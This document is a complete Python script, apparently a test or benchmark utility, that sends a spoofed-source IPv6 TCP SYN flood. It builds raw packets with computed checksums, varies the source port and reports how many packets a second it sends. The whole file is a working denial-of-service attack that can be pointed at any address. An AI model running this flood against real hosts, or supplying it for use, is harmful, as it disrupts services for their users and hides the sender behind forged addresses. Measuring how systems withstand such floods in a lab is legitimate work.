#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0
"""A TCP SYN flood, as a spoofing attacker sends it.

    synflood.py SRC DST PORT COUNT

sends COUNT SYNs from SRC (any address: the packets are whole IPv6
packets on a raw socket) to DST's PORT, each from another source port,
and prints how many it sent and how many a second.
"""

import ipaddress
import socket
import struct
import sys
import time

IPPROTO_TCP = 6


def fold(total):
    while total >> 16:
        total = (total & 0xffff) + (total >> 16)
    return total


def main(argv):
    if len(argv) != 5:
        print(__doc__, file=sys.stderr)
        return 2
    src = ipaddress.IPv6Address(argv[1]).packed
    dst = ipaddress.IPv6Address(argv[2]).packed
    port, count = int(argv[3]), int(argv[4])
    ip6 = struct.pack("!IHBB", 6 << 28, 20, IPPROTO_TCP, 64) + src + dst
    pseudo = src + dst + struct.pack("!IxxxB", 20, IPPROTO_TCP)
    # The sum of everything but the source port, once.
    template = struct.pack("!HHIIBBHHH", 0, port, 0x01020304, 0, 5 << 4,
                           0x02, 65535, 0, 0)
    base = sum(struct.unpack("!%dH" % ((len(pseudo) + 20) // 2),
                             pseudo + template))
    sock = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_RAW)
    start = time.monotonic()
    for i in range(count):
        sport = 1024 + i % 64000
        csum = ~fold(base + sport) & 0xffff
        tcp = struct.pack("!HHIIBBHHH", sport, port, 0x01020304, 0,
                          5 << 4, 0x02, 65535, csum, 0)
        try:
            sock.sendto(ip6 + tcp, (argv[2], 0))
        except OSError:
            pass    # a full queue: the packet is lost, as on a wire
    took = time.monotonic() - start
    print(count, int(count / took))
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv))
